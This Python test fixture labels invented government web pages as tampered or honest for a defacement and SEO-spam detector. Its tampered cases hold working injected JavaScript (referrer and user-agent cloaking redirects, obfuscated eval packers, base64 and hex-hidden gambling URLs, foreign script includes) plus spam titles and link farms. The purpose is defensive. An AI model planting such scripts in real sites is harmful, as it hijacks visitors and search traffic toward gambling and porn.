# ruff: noqa: E501
"""Labelled pages that were tampered with, and honest pages that look a little like it. Invented, none copied."""

import base64
from dataclasses import dataclass

from tests.reading.official_page import ARTICLE, page

OWN = "http://www.qingshan.gov.cn/art/2024/5/6/art_12_3456.html"


@dataclass(frozen=True)
class TamperCase:
    """`kind` is None for an honest page."""

    id: str
    html: str
    kind: str | None
    url: str | None = OWN


def _coded(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def _hex_coded(text: str) -> str:
    return "".join(f"&#x{ord(c):x};" for c in text)


def _meta(name: str, content: str) -> str:
    html = page()
    old = "青山县,政府" if name == "keywords" else "青山县人民政府门户网站"
    return html.replace(f'name="{name}" content="{old}"', f'name="{name}" content="{content}"')


_SPAM = ("亚洲无码高清在线", "成人电影免费观看", "日本av女优", "黄色视频网站", "三级片大全", "午夜福利视频")
_SPAM_LINKS = "".join(f'<a href="/v/{i}.html">{text}</a> ' for i, text in enumerate(_SPAM))
_TRADES = ("新锐搬家价格", "白癜风哪家好", "二手高仿手表", "私家侦探多少钱", "减速机厂家", "除甲醛加盟")
_FARM = "".join(f'<a href="http://www.trade{chr(97 + i)}xq.com/">{text}</a> ' for i, text in enumerate(_TRADES))
_TRADITIONAL = (
    "<p>青山縣人民政府辦公室關(guān)于印發(fā)網(wǎng)站管理辦法的通知：各鄉(xiāng)鎮(zhèn)人民政府，縣政府各部門，"
    "為進(jìn)一步規(guī)范網(wǎng)站建設(shè)，現(xiàn)將有關(guān)事項(xiàng)通知如下。</p>"
)
_POLICE = (
    "<p>近日，青山县公安局成功打掉一个网络赌博犯罪团伙。经查，嫌疑人利用“亚博体育”等赌博网站组织他人投注，涉案金额巨大。</p>"
    "<p>警方提醒：远离网络赌博，凡是以注册送彩金为诱饵的平台都是骗局。</p>"
)

FAULTS: tuple[TamperCase, ...] = (
    TamperCase("title-japanese", page(title="【送料無料】 革財布 メンズ 人気ブランド 激安通販"), "title_swapped"),
    TamperCase("title-japanese-half", page(title="ナイキ スニーカー レディース セール - 青山县人民政府"), "title_swapped"),
    TamperCase("title-pharmacy", page(title="Buy Cialis Online Without Prescription"), "title_swapped"),
    TamperCase("title-slots", page(title="Situs Slot Gacor Resmi Gampang Menang"), "title_swapped"),
    TamperCase("title-vietnamese", page(title="Nhà cái uy tín - Game bài đổi thưởng"), "title_swapped"),
    TamperCase("title-thai", page(title="สล็อตเว็บตรง แตกง่าย สมัครฟรี"), "title_swapped"),
    TamperCase("title-korean", page(title="카지노사이트 추천 먹튀검증"), "title_swapped"),
    TamperCase("title-invoice", page(title="上海代开发票-加微信先开票后付款"), "title_swapped"),
    TamperCase("title-circular", page(title="必威体育app_必威体育娱乐-【官网下载】第三季度抽查情况的通报"), "title_swapped"),
    TamperCase("keywords-japanese", _meta("keywords", "腕時計,メンズ,激安通販,送料無料,人気ランキング"), "keywords_swapped"),
    TamperCase("description-japanese", _meta("description", "ブランド財布 レディース 激安 送料無料 新作続々入荷中"), "description_swapped"),
    TamperCase("defaced-heading", page(extra="<h2>H4ck3d by ./Ghost_Sec</h2><p>Greetz to all friends</p>"), "defaced"),
    TamperCase("defaced-bare", "<html><head><title>0wned</title></head><body><h1>Your site has been hacked</h1></body></html>", "defaced"),
    TamperCase("defaced-chinese", page(extra="<p>本站已被黑客入侵</p>"), "defaced"),
    TamperCase("title-brand", page(title="必威体育app_必威体育娱乐-【官网下载】"), "title_swapped"),
    TamperCase("title-casino", page(title="澳门新葡京娱乐场官网-首页"), "title_swapped"),
    TamperCase("title-unknown-name", page(title="盛大体育app官网下载_盛大娱乐平台注册"), "title_swapped"),
    TamperCase("title-elsewhere", page(title="鼎盛汇官方网站入口"), "title_swapped"),
    TamperCase("title-half-elsewhere", page(title="县政府召开常务会议_鼎盛汇官网"), "title_swapped"),
    TamperCase("title-one-trade", page(title="北京治疗白癜风最好的医院"), "title_swapped"),
    TamperCase("title-coded-short", page(title=_coded("鼎汇")), "title_entity_coded"),
    TamperCase("referrer-base64-variable", page(head="<script>var x='" + base64.b64encode(b"http://www.dahao-yl88.com").decode()
               + "';if(/baidu|sogou/.test(document.referrer)){location.href=window.atob(x)}</script>"), "referrer_script"),
    TamperCase("referrer-decimal-packer", page(head="<script>eval(function(p,a,c,k,e,r){e=String;while(c--)if(k[c])p=p.replace(new RegExp("
               "'\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0 1=2.3;4(1.5(\"6\")>0){7.8=\"9://10.11.12/\"}',13,13,'var|s|document|referrer"
               "|if|indexOf|baidu|location|href|http|www|tycxqwe|com'.split('|'),0,{}))</script>"), "referrer_script"),
    TamperCase("body-html-tail", page().replace("</body>", "</body><p>必威体育官网</p>"), "injected_tail"),
    TamperCase("title-lawful", page(title="必威体育（中国）官方网站-合法监管平台下载"), "title_swapped"),
    TamperCase("title-spaced", page(title="开 云 体 育(kaiyun)官方网站"), "title_swapped"),
    TamperCase("title-porn", page(title="亚洲无码_国产自拍_在线观看"), "title_swapped"),
    TamperCase("title-legend", page(title="新开传奇私服发布网-每日新区"), "title_swapped"),
    TamperCase("title-trade", page(title="搬家公司哪家好_长途搬家价格多少钱"), "title_swapped"),
    TamperCase("title-prefixed", page(title="县政府召开常务会议_亚博体育官网"), "title_swapped"),
    TamperCase("title-coded", page(title=_coded("时时彩投注平台官网")), "title_swapped"),
    TamperCase("title-coded-unknown", page(title=_coded("盛世国际集团欢迎您")), "title_entity_coded"),
    TamperCase("title-hex-coded", page(title=_hex_coded("金鼎国际线路检测")), "title_entity_coded"),
    TamperCase("title-second", page(head="<title>博彩网站大全-必威体育</title>"), "title_swapped"),
    TamperCase("article-title", page(article_title="乐鱼体育app下载"), "title_swapped"),
    TamperCase("keywords", _meta("keywords", "北京赛车,pk10,时时彩,开户"), "keywords_swapped"),
    TamperCase("keywords-coded", _meta("keywords", _coded("澳门威尼斯人,葡京赌场")), "keywords_swapped"),
    TamperCase("description", _meta("description", "开云体育官网提供真人百家乐、老虎机游戏、足球投注"), "description_swapped"),
    TamperCase("defaced", page(title="Hacked by Anon1337"), "defaced"),
    TamperCase("referrer-baidu", page(head='<script>var r=document.referrer;if(r.indexOf("baidu")>0||r.indexOf("sogou")>0){'
               'location.href="http://www.dahao-yl88.com/";}</script>'), "referrer_script"),
    TamperCase("referrer-regex", page(head="<script>if(/\\.(baidu|so|sogou|google|bing)(\\.[a-z]+){1,2}/i.test(document.referrer)){"
               "setTimeout(function(){window.location.replace('https://m.haomenhuixx.com/?f=1')},200)}</script>"), "referrer_script"),
    TamperCase("referrer-write", page(head="<script>if(document.referrer.match(/sm\\.cn|baidu/)){document.write("
               "'<script src=\"//js.tjxqwe.com/j.js\"><\\/script>')}</script>"), "referrer_script"),
    TamperCase("referrer-base64", page(head='<script>if(document.referrer.indexOf("baidu")>-1){top.location=atob("'
               + base64.b64encode(b"https://www.dahao-yl88.com/").decode() + '")}</script>'), "referrer_script"),
    TamperCase("agent-spider", page(head='<script>if(navigator.userAgent.toLowerCase().indexOf("baiduspider")<0){location='
               '"http://www.haomenhuixx.com"}</script>'), "agent_script"),
    TamperCase("agent-phone", page(head="<script>if(/Android|iPhone/i.test(navigator.userAgent)){location.href="
               "'https://www.haomenhuixx.com/app'}</script>"), "agent_script"),
    TamperCase("agent-hex", page(head='<script>if(navigator["\\x75\\x73\\x65\\x72\\x41\\x67\\x65\\x6e\\x74"].match(/iPhone/)){'
               'window["\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e"].href="\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x77\\x77\\x77\\x2e\\x68\\x61'
               '\\x6f\\x6d\\x78\\x78\\x2e\\x63\\x6f\\x6d"}</script>'), "agent_script"),
    TamperCase("title-by-script", page(title="北京赛车pk10开奖直播", head="<script>if(navigator.userAgent.toLocaleLowerCase()"
               '.indexOf("baidu")==-1){document.title="青山县人民政府"}</script>'), "title_by_script"),
    TamperCase("foreign-script-host", page(head='<script src="https://js.bet365tj.com/t.js"></script>'), "foreign_script"),
    TamperCase("foreign-script-cheap", page(head='<script src="//a.qx8w.top/1.js"></script>'), "foreign_script"),
    TamperCase("foreign-script-tail", page(after='<script src="http://www.tjxqwe.com/x.js"></script>'), "foreign_script"),
    TamperCase("foreign-script-eval", page(head="<script>eval(function(p,a,c,k,e,d){e=function(c){return c};return p}("
               "'0.1(\"<2 3=\\\\\"4://5.6.7/8.9\\\\\"></2>\");',10,10,'document|write|script|src|https|js|tjxqwe|com|x|js'"
               ".split('|'),0,{}))</script>"), "foreign_script"),
    TamperCase("refresh", page(head='<meta http-equiv="Refresh" content="0; URL=http://www.haomenhuixx.com/">'), "foreign_refresh"),
    TamperCase("redirect-bare", "<html><head><title>青山县</title></head><body><script>window.location.href="
               '"http://www.haomenhuixx.com/index.html";</script></body></html>', "foreign_redirect"),
    TamperCase("redirect-telling", page(head='<script>top.location.href="http://www.bet365-cn.com/"</script>'), "foreign_redirect"),
    TamperCase("base", page(head='<base href="http://www.haomenhuixx.com/">'), "foreign_base"),
    TamperCase("tail-links", page(after='<div><a href="http://www.haotianxx.net/">浩天</a></div>'), "injected_tail"),
    TamperCase("tail-words", page(after="<p>必威体育 亚博体育 开云app 乐鱼体育 世界杯投注</p>"), "injected_tail"),
    TamperCase("tail-porn", page(extra=f"<table><tr><td>合计</td><td>12</td></tr></table>{_SPAM_LINKS}"), "injected_links"),
    TamperCase("one-link", page(extra='<a href="http://www.haotianxx.net/">真人百家乐官网</a>'), "injected_links"),
    TamperCase("own-spam-list", page(extra='<ul><li><a href="/a/1.html">世界杯投注app</a></li><li><a href="/a/2.html">开元棋牌下载'
               "</a></li></ul>"), "injected_links"),
    TamperCase("farm", page(extra=f"<div>{_FARM}</div>"), "injected_links"),
    TamperCase("substituted", page(article=ARTICLE.replace("会议指出", "必威体育app_必威体育娱乐-【官网下载】指出")), "keyword_substituted"),
    TamperCase("substituted-twice", page(article=ARTICLE.replace("县政府", "亚博体育").replace("会议", "开云体育")), "keyword_substituted"),
    TamperCase("clone", page(), "clone_site", "http://www.qingshan-zf.com/art/1.html"),
    TamperCase("clone-https", page(site_domain="https://www.qingshan.gov.cn/"), "clone_site", "https://qs.hmxx.net/art/1.html"),
    TamperCase("clone-comma", page(site_domain="www.qingshan.gov.cn,qingshan.gov.cn"), "clone_site", "http://www.gjdw.cn/"),
    TamperCase("clone-port", page(site_domain="www.qingshan.gov.cn:80"), "clone_site", "http://www.qingshan.gov.cn.hmxx.com/"),
    TamperCase("converted", page(article=_TRADITIONAL), "converted_copy", "http://www.risen-news.com/news/3.html"),
    TamperCase("converted-long", page(article=_TRADITIONAL + ARTICLE, site_domain=""), "converted_copy", "http://m.news-xx.com/3.html"),
)  # fmt: skip

_REAL = '<a href="http://www.gov.cn/">中国政府网</a>'

HONEST: tuple[TamperCase, ...] = (
    TamperCase("plain", page(), None),
    TamperCase("plain-no-url", page(), None, None),
    TamperCase("police-title", page(title="青山警方破获特大网络赌博案", article_title="青山警方破获特大网络赌博案", article=_POLICE), None),
    TamperCase("police-text", page(article=_POLICE), None),
    TamperCase("police-many", page(title="关于防范网络赌博的提醒", article=_POLICE * 3), None),
    TamperCase("lottery", page(title="2023年度福利彩票公益金使用情况公告", article="<p>全年发行销售福利彩票、体育彩票，筹集彩票公益金。</p>"), None),
    TamperCase("lottery-shop", page(title="体育彩票投注站征召公告", article="<p>体彩竞彩投注网点，双色球、十一选五销售。</p>"), None),
    TamperCase("sport", page(title="全县体育工作会议召开_青山县文化体育局官网"), None),
    TamperCase("sport-app", page(title="青山县智慧体育app上线试运行"), None),
    TamperCase("lottery-site", page(title="县福利彩票管理中心官方网站", article_title="县福利彩票管理中心"), None),
    TamperCase("title-of-text", page(title="青山火腿官网上线 线上平台下载有优惠", article_title="青山火腿官网上线"), None),
    TamperCase("household", page(title="家政服务 搬家 开锁 疏通便民电话", article_title="搬家开锁疏通家政便民电话"), None),
    TamperCase("moved", "<html><head><title>青山县</title><meta http-equiv='refresh' content='3;url=http://www.qingshan-new.com/'></head>"
               "<body><p>本站已迁移至新网址，正在跳转。</p></body></html>", None),
    TamperCase("floating-window", page().replace("</body>", "</body><div><a href='http://www.yunwang-tech.com/kf'>在线客服</a></div>"), None),
    TamperCase("macao", page(title="澳门特别行政区经贸代表团来我县考察"), None),
    TamperCase("entertainment", page(title="关于娱乐场所消防安全检查的通报", article="<p>检查电子游艺厅、金沙江路娱乐城等场所。</p>"), None),
    TamperCase("surrogacy", page(title="严厉打击代孕违法违规行为专项活动方案"), None),
    TamperCase("invoice", page(title="关于代开发票业务办理的通知_办事指南"), None),
    TamperCase("cleanup", page(title="关于清理整治网站暗链的通知", article="<p>部分网站被植入“澳门葡京”“成人电影”等暗链，要立即清理。</p>"), None),
    TamperCase("women", page(article="<p>减少妇女儿童受侵害，当事人妻子、写一本道德建设读本、成熟女性、特色综合执法、A片区规划、减少年检。</p>"), None),
    TamperCase("cluster", page(title="县政府网站站群集约化平台上线"), None),
    TamperCase("title-entities", page(title="县政府&nbsp;&middot;&nbsp;常务会议&ldquo;六稳&rdquo;_青山县人民政府"), None),
    TamperCase("hacked-exercise", page(title="全市网络安全演练举行", article="<p>演练中攻击方在网页上写下“Hacked by”字样，值守人员及时处置。</p>"), None),
    TamperCase("hacked-verdict", page(title="一起破坏计算机信息系统案宣判", article="<p>被告人将某网站首页改为“黑客某某到此一游”，被判处有期徒刑。</p>"), None),
    TamperCase("hacked-question", page(title="网络安全知识问答", article="<p>问：网站已被黑客入侵怎么办？</p><p>答：立即断网并报告。</p>"), None),
    TamperCase("title-coded-plain", page(title=_coded("青山县老旧小区改造方案印发"), article_title="", article="<p>青山县老旧小区改造方案印发施行。</p>"), None),
    TamperCase("title-coded-office", page(title=_hex_coded("青山县住房和城乡建设局"), article_title="", site_domain=""), None),
    TamperCase("own-shop-title", page(title="青山茶叶线上商城app下载", article_title="青山茶叶线上商城app下载", article="<p>青山茶叶线上商城app下载方式公布。</p>"), None),
    TamperCase("title-coded-own", page(title=_coded("县政府召开常务会议_青山县人民政府")), None),
    TamperCase("all-coded", page(title=_coded("通知公告"), article="<p>" + _coded("各乡镇人民政府，县直各部门：现将有关事项通知如下。") * 30 + "</p>"), None),
    TamperCase("mobile-own", page(head="<script>if(/Android|iPhone|iPad/i.test(navigator.userAgent)){window.location.href="
               '"http://m.qingshan.gov.cn/";}</script>'), None),
    TamperCase("mobile-path", page(head="<script>if(navigator.userAgent.match(/mobile/i)){location.href='/wap/index.html'}</script>"), None),
    TamperCase("mobile-related", page(head="<script>if(navigator.userAgent.match(/mobile/i)){location.href='http://m.qingshan.com/'}</script>"), None),
    TamperCase("mobile-siteapp", page(head='<script src="http://siteapp.baidu.com/static/webappservice/uaredirect.js"></script>'
               '<script>uaredirect("http://m.qingshan.gov.cn");</script>'), None),
    TamperCase("agent-ie", page(head="<script>if(navigator.userAgent.indexOf('MSIE 6')>0){location.href='/ie6.html'}</script>"), None),
    TamperCase("agent-wechat", page(head="<script>var ua=navigator.userAgent;if(/MicroMessenger/.test(ua)){var s=document.createElement('script');"
               "s.src='https://res.wx.qq.com/open/js/jweixin-1.6.0.js';document.head.appendChild(s)}</script>"), None),
    TamperCase("referrer-count", page(head="<script>if(document.referrer.indexOf('baidu')>-1){document.cookie='from=baidu'}</script>"), None),
    TamperCase("referrer-frame", page(head="<script>if(top.location!==self.location&&document.referrer.indexOf('baidu.com')<0){"
               "top.location.href=location.href}</script>"), None),
    TamperCase("referrer-stat", page(head="<script>var u='https://hm.baidu.com/h.gif?r='+document.referrer;new Image().src=u;</script>"), None),
    TamperCase("bot-skip", page(head="<script>if(!/spider|bot/i.test(navigator.userAgent)){var s=document.createElement('script');"
               "s.src='/js/stat.js';document.body.appendChild(s)}</script>"), None),
    TamperCase("library", page(head='<script src="https://cdn.bootcss.com/jquery/1.12.4/jquery.min.js"></script>'), None),
    TamperCase("map", page(head='<script src="http://api.map.baidu.com/api?v=2.0"></script>'), None),
    TamperCase("vendor-script", page(head='<script src="http://znkf.yunwang-tech.com/robot.js"></script>'), None),
    TamperCase("conac", page(extra="<script>document.write(unescape(\"%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/"
               "05/CA05.js' type='text/javascript'%3E%3C/script%3E\"));</script>"), None),
    TamperCase("refresh-own", page(head='<meta http-equiv="refresh" content="0;url=/index.html">'), None),
    TamperCase("refresh-gov", page(head='<meta http-equiv="refresh" content="5;url=http://www.lvshui.gov.cn">'), None),
    TamperCase("go-function", page(head="<script>function go(){window.location.href='http://www.qsrmtzx.com/'}</script>"), None),
    TamperCase("go-own", page(head="<script>location.href='http://www.qingshan.gov.cn/new.html'</script>"), None),
    TamperCase("base-own", page(head='<base href="http://www.qingshan.gov.cn/">'), None),
    TamperCase("tail-script", page(after='<script src="/tj.js"></script><!-- 2024-05-06 -->'), None),
    TamperCase("tail-footer", page(after='<div><a href="/map.html">网站地图</a><a href="http://www.yunwang-tech.com/">云网</a></div>'), None),
    TamperCase("tail-time", page(after="<!-- publish time 2024-05-06 10:00:00 --><p>页面生成时间</p>"), None),
    TamperCase("friends", page(extra=f"<div class='yqlj'>{_REAL}<a href='http://www.haotianxx.net/'>浩天信息公司</a>"
               "<a href='http://www.qsyy.com/'>县人民医院</a><a href='http://www.qsly.com'>青山旅行社</a></div>"), None),
    TamperCase("domain-bare", page(site_domain="qingshan.gov.cn"), None),
    TamperCase("domain-http", page(site_domain="http://www.qingshan.gov.cn"), None),
    TamperCase("domain-comma", page(site_domain="www.qingshan.gov.cn,www.qs.gov.cn"), None, "http://www.qs.gov.cn/a.html"),
    TamperCase("domain-port", page(site_domain="www.qingshan.gov.cn"), None, "http://www.qingshan.gov.cn:8080/a.html"),
    TamperCase("domain-sub", page(site_domain="www.qingshan.gov.cn"), None, "http://jyj.qingshan.gov.cn/a.html"),
    TamperCase("domain-group", page(site_domain="www.lvshui.gov.cn"), None, "http://www.qingshan.gov.cn/bm/a.html"),
    TamperCase("domain-address", page(), None, "http://218.64.56.9:8080/a.html"),
    TamperCase("domain-archive", page(), None, "https://web.archive.org/web/2024/http://www.qingshan.gov.cn/"),
    TamperCase("traditional", page(article="<p>青山縣人民政府辦公室關於印發網站管理辦法的通知，各鄉鎮人民政府，縣政府各部門：</p>"), None, "http://big5.qingshan.gov.cn/"),
    TamperCase("rare-words", page(article="<p>郫(pí)县、涪(fú)陵、渑(miǎn)池、亳(bó)州、鄱(pó)阳、歙(shè)县等地名读音。</p>" + ARTICLE), None),
    TamperCase("brackets", page(article="<p>公司(gongsi)、企业(qy)按(a)、按(b)、按(c)、按(d)、按(e)办理。</p>"), None),
)  # fmt: skip

CASES = FAULTS + HONEST
